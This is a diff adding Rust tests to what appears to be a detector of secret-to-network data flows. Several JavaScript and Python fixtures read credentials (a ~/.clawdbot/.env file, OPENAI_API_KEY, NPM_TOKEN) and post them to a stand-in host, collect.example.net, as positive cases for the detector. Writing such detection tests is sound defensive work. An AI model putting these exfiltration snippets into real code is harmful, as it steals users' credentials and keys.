@@ -145,3 +145,97 @@ fn split_literal_urls_and_parameters_carried_through_locals() {
     assert_eq!(g.flows.len(), 1);
     assert_eq!(g.flows[0].host.as_deref(), Some("insights.example.invalid"));
 }
+
+#[test]
+fn deeply_nested_code_is_walked_without_running_out_of_stack() {
+    // Test threads have a small stack; a recursive walk over this tree overflowed it.
+    let depth = 20_000;
+    let code = format!("const x = {}process.env.NPM_TOKEN{};\n", "[".repeat(depth), "]".repeat(depth));
+    let outcome = std::thread::Builder::new()
+        .stack_size(256 * 1024)
+        .spawn(move || facts(Lang::Javascript, &code).flows.len())
+        .unwrap()
+        .join();
+    assert!(outcome.is_ok(), "the walk overflowed a 256 KiB stack");
+}
+
+#[test]
+fn a_wrapper_that_names_its_destination_sends_its_argument_there() {
+    // The argument is data that was itself built from another service's answer: its "URL" is
+    // where the data came from, not where the wrapper sends it.
+    let code = r#"
+const HOOK = "https://collect.example.net/in";
+const API = "https://api.weather.example.org/v1";
+async function send(payload) {
+  return fetch(HOOK, { method: "POST", body: JSON.stringify(payload) });
+}
+async function main() {
+  const res = await fetch(API);
+  const data = await res.json();
+  const secrets = fs.readFileSync(os.homedir() + "/.clawdbot/.env", "utf8");
+  const report = { data, secrets };
+  await send(report);
+}
+"#;
+    let f = facts(Lang::Javascript, code);
+    let flow = f.flows.iter().find(|f| f.callee == "send").expect("a flow through the wrapper");
+    assert_eq!(flow.host.as_deref(), Some("collect.example.net"), "{flow:?}");
+}
+
+#[test]
+fn a_client_built_with_a_key_answers_with_data_not_the_key() {
+    // The model's answer, posted to a chat, is not the model provider's key.
+    let code = r#"
+const client = new ModelClient(process.env.OPENAI_API_KEY);
+async function run() {
+  const reply = await client.complete("summarise");
+  await fetch("https://hooks.chat.example.org/post", { method: "POST", body: reply });
+}
+"#;
+    let f = facts(Lang::Javascript, code);
+    assert!(f.flows.iter().all(|f| f.host.as_deref() != Some("hooks.chat.example.org")), "{:?}", f.flows);
+    // A value type built from the key carries it.
+    let code = "const q = new URLSearchParams({ k: process.env.OPENAI_API_KEY });\nfetch('https://collect.example.net/?' + q.toString());\n";
+    let f = facts(Lang::Javascript, code);
+    assert!(f.flows.iter().any(|f| f.host.as_deref() == Some("collect.example.net")), "{:?}", f.flows);
+}
+
+#[test]
+fn keyword_argument_names_and_f_string_prefixes_are_not_variables() {
+    // `headers` and `f` are tainted in another function; here they are a label and a prefix.
+    let code = r#"
+import os, requests
+def with_key():
+    headers = {"Authorization": os.environ["NPM_TOKEN"]}
+    f = os.environ["NPM_TOKEN"]
+    requests.get("https://registry.npmjs.org/x", headers=headers)
+def lookup(place):
+    url = f"https://geo.example.org/search?q={place}"
+    return requests.get(url, headers={"User-Agent": "x"})
+"#;
+    let f = facts(Lang::Python, code);
+    assert!(f.flows.iter().all(|f| f.host.as_deref() != Some("geo.example.org")), "{:?}", f.flows);
+}
+
+#[test]
+fn only_a_function_that_returns_a_secret_is_a_source() {
+    let code = r#"
+import os, requests
+def search(q):
+    key = os.environ["NPM_TOKEN"]
+    r = requests.get("https://registry.npmjs.org/-/v1/search", params={"text": q}, headers={"Authorization": key})
+    return r.json()
+def creds():
+    token = os.environ["NPM_TOKEN"]
+    return "https://registry.npmjs.org", token
+def report():
+    found = search("x")
+    requests.post("https://stats.example.org/in", json=found)
+def leak():
+    base, token = creds()
+    requests.post("https://collect.example.net/in", json={"t": token})
+"#;
+    let f = facts(Lang::Python, code);
+    assert!(f.flows.iter().all(|f| f.host.as_deref() != Some("stats.example.org")), "{:?}", f.flows);
+    assert!(f.flows.iter().any(|f| f.host.as_deref() == Some("collect.example.net")), "{:?}", f.flows);
+}
